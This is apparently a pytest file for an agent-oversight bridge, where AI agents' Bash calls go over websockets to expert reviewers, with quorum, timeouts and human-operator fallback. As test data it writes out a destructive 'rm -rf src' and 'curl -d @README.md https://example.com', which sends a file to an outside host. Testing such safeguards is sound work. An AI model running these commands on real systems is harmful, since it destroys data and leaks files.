"""Sockets of agents: requests come to those who can judge them, are acknowledged, answered, handed on."""

import asyncio
import socket
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from typing import Any

import aiohttp
import msgspec
import pytest

from lighthouse.bridge import lasting
from lighthouse.bridge import socket as socket_route
from lighthouse.experts import expert
from lighthouse.mailbox.mailbox import MAX_READERS
from lighthouse.mailbox.reader import WINDOW
from lighthouse.sessions import Role
from tests.bridge.conftest import Api, Start
from tests.conftest import WaitFor

MEDIUM = "rm -rf src"
HIGH = "curl -d @README.md https://example.com"
SECONDS = 10


class Socket:
    """An agent's own socket, as a client sees it."""

    def __init__(self, raw: aiohttp.ClientWebSocketResponse) -> None:
        self.raw = raw

    async def take(self) -> dict[str, Any]:
        """The next message."""
        message = await self.raw.receive(timeout=SECONDS)
        assert message.type is aiohttp.WSMsgType.TEXT, message
        return msgspec.json.decode(message.data)

    async def say(self, **message: Any) -> None:
        await self.raw.send_json(message)

    async def asked(self) -> dict[str, Any]:
        """The data of the next message, which is a request, acknowledged."""
        message = await self.take()
        assert message["type"] == "validation.request"
        await self.say(type="ack", n=message["n"])
        return message["data"]

    async def answer(self, request_id: str, verdict: str, reason: str = "I looked at it") -> dict[str, Any]:
        """The reply to an answer; what else comes meanwhile is left out."""
        await self.say(type="answer", id=request_id, verdict=verdict, reason=reason)
        while (reply := await self.take())["type"] not in ("answered", "error"):
            pass
        return reply


@asynccontextmanager
async def opened(api: Api, agent: str, role: Role = Role.EXPERT) -> AsyncIterator[Socket]:
    token = api.token(agent, role)
    async with api.http.ws_connect(api.url(f"/ws/{agent}"), headers=api.headers(token)) as raw:
        yield Socket(raw)


@asynccontextmanager
async def there(api: Api, agent: str, speciality: str = "security", **limits: Any) -> AsyncIterator[Socket]:
    """An expert with its socket open."""
    body = {"speciality": speciality, **limits}
    answer = await api.post("/expert/register", body, token=api.token(agent, Role.EXPERT))
    assert answer.status == 200, answer.body
    async with opened(api, agent) as socket:
        yield socket


def ask(api: Api, command: str = MEDIUM, wait: float = SECONDS) -> "asyncio.Task[dict[str, Any]]":
    """A call of ann's that waits for its answer."""
    body = {
        "tool_name": "Bash",
        "tool_input": {"command": command},
        "cwd": str(api.bridge.settings.project_path),
        "wait_seconds": wait,
    }

    async def answered() -> dict[str, Any]:
        answer = await api.post("/validate", body)
        assert answer.status == 200, answer.body
        return answer.json()

    return asyncio.create_task(answered())


async def shown(api: Api, request_id: str) -> dict[str, Any]:
    return (await api.get(f"/validate/{request_id}")).json()


async def test_an_expert_is_asked_over_its_socket_and_denies(api: Api) -> None:
    async with there(api, "eve") as eve:
        waiting = ask(api)
        request = await eve.asked()
        assert request == await shown(api, request["id"])
        assert request["tool_input"] == {"command": MEDIUM}
        assert request["asked"] == ["eve"]
        assert request["needs"] == {"languages": ["bash"], "paths": ["src"], "risks": ["delete"]}
        reply = await eve.answer(request["id"], "deny", "nothing is committed")
        assert reply["type"] == "answered"
        assert (reply["id"], reply["data"]["how"]) == (request["id"], "expert")
        verdict = await waiting
    assert (verdict["decision"], verdict["id"]) == ("deny", request["id"])
    assert "nothing is committed" in verdict["reason"]
    events = await api.events(stream="validations")
    assert [(event.type, event.agent_id) for event in events] == [
        ("validation.requested", "ann"),
        ("validation.answered", "eve"),
        ("validation.resolved", "eve"),
    ]


async def test_two_of_different_specialities_approve_what_is_grave(api: Api) -> None:
    async with there(api, "eve") as eve, there(api, "dora", "network") as dora:
        waiting = ask(api, HIGH)
        request = await eve.asked()
        assert (request["tier"], request["quorum"], sorted(request["asked"])) == ("high", 2, ["dora", "eve"])
        assert (await dora.asked())["id"] == request["id"]
        first = await eve.answer(request["id"], "approve")
        assert first["data"]["state"] == "pending"
        assert not waiting.done()
        second = await dora.answer(request["id"], "approve")
        assert (second["data"]["how"], second["data"]["decision"]) == ("quorum", "allow")
        assert (await waiting)["decision"] == "allow"
        over = await eve.take()
        assert (over["type"], over["data"]["decision"]) == ("validation.resolved", "allow")


async def test_two_of_the_same_speciality_are_no_quorum(start: Start) -> None:
    api = await start(expert_seconds=1.0)
    async with there(api, "eve") as eve, there(api, "fred") as fred:
        waiting = ask(api, HIGH)
        request = await eve.asked()
        for socket in (eve, fred):
            assert (await socket.answer(request["id"], "approve"))["data"]["state"] == "pending"
        assert (await eve.take())["type"] == "validation.withdrawn"  # the experts' time is over
        body = {"id": request["id"], "verdict": "deny", "reason": "no"}
        assert (await api.post("/approve", body, token=api.token("olga", Role.OPERATOR))).status == 200
        assert (await waiting)["decision"] == "deny"


async def test_the_second_answer_and_the_wrong_ones_are_told_why(api: Api) -> None:
    async with there(api, "eve") as eve, there(api, "dora", "network", risks=["send"]) as dora:
        ask(api, HIGH, wait=0)
        request = await eve.asked()
        await dora.asked()
        assert (await eve.answer(request["id"], "approve"))["type"] == "answered"
        again = await eve.answer(request["id"], "deny")
        assert (again["type"], again["status"], again["id"]) == ("error", 409, request["id"])
        assert (await dora.answer("v99999", "deny"))["status"] == 404
        delete = (await ask(api, wait=0))["id"]
        assert (await dora.answer(delete, "approve"))["status"] == 403  # knows of sending alone
        assert (await dora.answer(request["id"], "approve", reason=""))["status"] == 422
        assert (await dora.answer(request["id"], "perhaps"))["status"] == 422
        await dora.raw.send_bytes(b"{}")
        assert (await dora.take())["status"] == 400
        await dora.say(type="ack", n=17)
        assert (await dora.take())["status"] == 422
        await dora.say(type="dance")
        assert (await dora.take())["status"] == 422
        assert (await dora.answer(request["id"], "approve"))["type"] == "answered"


async def test_nobody_is_asked_about_its_own_call(api: Api) -> None:
    async with there(api, "ann", "security") as ann, there(api, "eve") as eve:
        verdict = await ask(api, wait=0)
        assert (await eve.asked())["asked"] == ["eve"]
        assert (await ann.answer(verdict["id"], "approve"))["status"] == 403


async def test_only_those_whose_field_it_is_are_asked(api: Api) -> None:
    async with (
        there(api, "eve", paths=["db/"]) as eve,
        there(api, "fred", risks=["delete"], paths=["src/"]) as fred,
    ):
        ask(api, wait=0)
        assert (await fred.asked())["asked"] == ["fred"]
        for elsewhere in ("cp README.md /srv/x", "rm -rf " + " ".join(f"db/{n}" for n in range(30))):
            found = await ask(api, elsewhere, wait=0)
            assert (await shown(api, found["id"]))["asked"] == []
        nowhere = "curl -d harbour https://example.com"
        ask(api, nowhere, wait=0)
        assert (await eve.asked())["tool_input"] == {"command": nowhere}


async def test_what_was_not_acknowledged_comes_again(api: Api) -> None:
    async with there(api, "eve") as eve:
        ids = [(await ask(api, f"rm -rf src/{n}", wait=0))["id"] for n in range(3)]
        messages = [await eve.take() for _ in range(3)]
        assert [(one["n"], one["data"]["id"]) for one in messages] == list(enumerate(ids, 1))
        await eve.say(type="ack", n=2)
        await eve.answer(ids[2], "deny")
    async with opened(api, "eve") as eve:
        again = await eve.take()
        assert (again["n"], again["data"]["id"]) == (1, ids[0])
        await eve.answer(ids[0], "deny")  # nothing else came before the reply
    async with opened(api, "eve") as eve:
        await eve.say(type="ack", n=1)
        assert (await eve.take())["type"] == "error"


async def test_a_restart_of_the_bridge_forgets_no_request(start: Start) -> None:
    api = await start()
    async with there(api, "eve") as eve:
        request_id = (await ask(api, wait=0))["id"]
        assert (await eve.take())["data"]["id"] == request_id
        await api.bridge.stop()
    again = await start()
    async with opened(again, "eve") as eve:
        request = await eve.asked()
        assert request["id"] == request_id
        waiting = asyncio.create_task(again.get(f"/validate/{request_id}?wait_seconds={SECONDS}"))
        assert (await eve.answer(request_id, "approve"))["type"] == "answered"
        told = (await waiting).json()
    assert (told["state"], told["decision"], told["how"]) == ("resolved", "allow", "expert")


@pytest.fixture
def at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Who is gone is gone at once."""
    monkeypatch.setattr(expert, "GRACE_SECONDS", 0.05)
    monkeypatch.setattr("lighthouse.experts.experts.GRACE_SECONDS", 0.0)


@pytest.mark.usefixtures("at_once")
async def test_an_expert_that_goes_away_leaves_its_requests_to_others(start: Start) -> None:
    api = await start()
    async with AsyncExitStack() as stack:
        crowd = {name: await stack.enter_async_context(there(api, name)) for name in ("eve", "fred", "gus")}
        waiting = ask(api)
        request = await crowd["eve"].asked()
        assert request["asked"] == ["eve", "fred"]  # the one that is needed, and one more
        await crowd["fred"].asked()
        await crowd["eve"].raw.close()
        handed = await crowd["gus"].asked()
        assert (handed["id"], handed["asked"]) == (request["id"], ["eve", "fred", "gus"])
        await crowd["gus"].answer(request["id"], "deny")
        assert (await waiting)["decision"] == "deny"
    types = [(event.type, event.value.get("asked")) for event in await api.events(type="validation.*")]
    assert types[:2] == [("validation.requested", ["eve", "fred"]), ("validation.handed_on", ["gus"])]
    [left] = await api.events(type="expert.left", agent_id="eve")
    assert left.value == {"waiting": [request["id"]]}


@pytest.mark.usefixtures("at_once")
async def test_an_expert_that_comes_later_is_asked_what_waits(start: Start) -> None:
    api = await start()
    waiting = ask(api)
    async with there(api, "eve") as eve:
        request = await eve.asked()
        await eve.answer(request["id"], "approve")
        assert (await waiting)["decision"] == "allow"


async def test_without_an_answer_in_the_experts_time_a_person_decides(
    start: Start, wait_for: WaitFor
) -> None:
    api = await start(expert_seconds=0.3)
    async with there(api, "eve") as eve:
        waiting = ask(api)
        request = await eve.asked()
        over = await eve.take()
        assert (over["type"], over["data"]["state"]) == ("validation.withdrawn", "pending")
        assert (await eve.answer(request["id"], "approve"))["status"] == 409
        assert not waiting.done()
        body = {"id": request["id"], "verdict": "approve", "reason": "it is mine"}
        assert (await api.post("/approve", body, token=api.token("olga", Role.OPERATOR))).status == 200
        assert (await waiting)["decision"] == "allow"
    await wait_for(lambda: api.bridge.experts.get("eve").missed == 1)
    assert api.bridge.experts.get("eve").load == 0


async def test_a_reader_that_acknowledges_nothing_gets_a_window_full(api: Api) -> None:
    async with there(api, "eve") as eve:
        for agent in ("ann", "bob", "carl"):
            for number in range(30):
                body = {"tool_name": "Bash", "tool_input": {"command": f"rm -rf src/{number}"}}
                body["cwd"] = str(api.bridge.settings.project_path)
                await api.post("/validate", body, token=api.token(agent))
        numbers = [(await eve.take())["n"] for _ in range(WINDOW)]
        assert numbers == list(range(1, WINDOW + 1))
        with pytest.raises(TimeoutError):
            await eve.raw.receive(timeout=0.2)
        await eve.say(type="ack", n=7)
        assert (await eve.take())["n"] == WINDOW + 1


async def test_one_that_never_reads_leaves_nothing_behind(
    api: Api, monkeypatch: pytest.MonkeyPatch, wait_for: WaitFor
) -> None:
    monkeypatch.setattr(socket_route, "HEARTBEAT_SECONDS", 1.0)
    monkeypatch.setattr(lasting, "CHECK_SECONDS", 0.1)
    await api.post("/expert/register", {"speciality": "security"}, token=api.token("eve", Role.EXPERT))
    with socket.create_connection(("127.0.0.1", api.port)) as raw:
        raw.sendall(
            f"GET /ws/eve HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {api.token('eve', Role.EXPERT)}\r\n"
            "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode()
        )
        await wait_for(lambda: api.bridge.mail.sockets == 1)
        for number in range(30):
            body = {"tool_name": "Bash", "tool_input": {"command": f"rm -rf src/{'x' * 60_000}{number}"}}
            body["cwd"] = str(api.bridge.settings.project_path)
            await api.post("/validate", body, token=api.token(f"ann-{number}"))
        await wait_for(lambda: api.bridge.mail.sockets == 0)
        await api.http.close()
        assert api.runner.server is not None
        await wait_for(lambda: not api.runner.server.connections)


async def test_whose_socket_it_is(api: Api) -> None:
    for path, headers, status in [
        ("/ws/eve", api.headers(), 403),
        ("/ws/ann", api.headers(None), 401),
        ("/ws/ann", api.headers("nonsense"), 401),
    ]:
        with pytest.raises(aiohttp.WSServerHandshakeError) as caught:
            await api.http.ws_connect(api.url(path), headers=headers)
        assert caught.value.status == status
    (await api.get("/ws/ann")).problem(426)
    async with AsyncExitStack() as stack:
        for _ in range(MAX_READERS):
            await stack.enter_async_context(opened(api, "eve"))
        with pytest.raises(aiohttp.WSServerHandshakeError) as caught:
            await stack.enter_async_context(opened(api, "eve"))
        assert caught.value.status == 429
    async with opened(api, "otto", Role.OBSERVER) as otto:
        request_id = (await ask(api, wait=0))["id"]
        assert (await otto.answer(request_id, "approve"))["status"] == 403


async def test_a_revoked_token_answers_nothing_more(api: Api) -> None:
    async with there(api, "eve") as eve:
        request_id = (await ask(api, wait=0))["id"]
        await eve.asked()
        token = eve.raw._response.request_info.headers["Authorization"].removeprefix("Bearer ")
        revoked = await api.post("/session/revoke", {}, token=token)
        assert revoked.status == 200
        await eve.say(type="answer", id=request_id, verdict="approve", reason="still me")
        assert (await eve.raw.receive(timeout=SECONDS)).type is aiohttp.WSMsgType.CLOSE
        assert eve.raw.close_code == 1008
    assert (await shown(api, request_id))["answers"] == []


async def test_a_socket_ends_with_the_bridge(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lasting, "CHECK_SECONDS", 0.05)
    async with opened(api, "eve") as eve:
        api.bridge.begin_stop()
        assert (await eve.raw.receive(timeout=SECONDS)).type is aiohttp.WSMsgType.CLOSE
        assert eve.raw.close_code == 1001


async def test_a_socket_of_some_rooms(api: Api) -> None:
    headers = api.headers(api.token("eve", Role.EXPERT))
    for wrong in ("", "validation,", "Validation", "validation,%20message", "x" * 201):
        answer = await api.get(f"/ws/eve?rooms={wrong}", headers=headers)
        answer.problem(422)
    async with (
        api.http.ws_connect(api.url("/ws/eve?rooms=message"), headers=headers) as raw,
        there(api, "eve") as eve,
    ):
        waiting = ask(api)
        request = await eve.asked()
        await Socket(raw).say(type="ack", n=1)
        assert (await Socket(raw).take())["detail"].startswith("no message 1 was sent here")
        await eve.answer(request["id"], "deny")
        assert (await waiting)["decision"] == "deny"


async def test_two_hundred_sockets(api: Api, wait_for: WaitFor) -> None:
    async with AsyncExitStack() as stack:
        connector = aiohttp.TCPConnector(limit=0)  # its own bound is a hundred
        api.http = await stack.enter_async_context(aiohttp.ClientSession(connector=connector))
        sockets = [await stack.enter_async_context(opened(api, f"agent-{n}")) for n in range(197)]
        experts = [
            await stack.enter_async_context(there(api, name, field))
            for name, field in (("eve", "security"), ("dora", "network"), ("gus", "database"))
        ]
        assert api.bridge.mail.sockets == 200
        waiting = ask(api, HIGH)
        requests = await asyncio.gather(*(socket.asked() for socket in experts))
        assert {request["id"] for request in requests} == {requests[0]["id"]}
        await experts[0].answer(requests[0]["id"], "deny")
        assert (await waiting)["decision"] == "deny"
        for socket in sockets[::50]:
            await socket.say(type="ack", n=1)
            assert (await socket.take())["status"] == 422
    await wait_for(lambda: api.bridge.mail.sockets == 0)
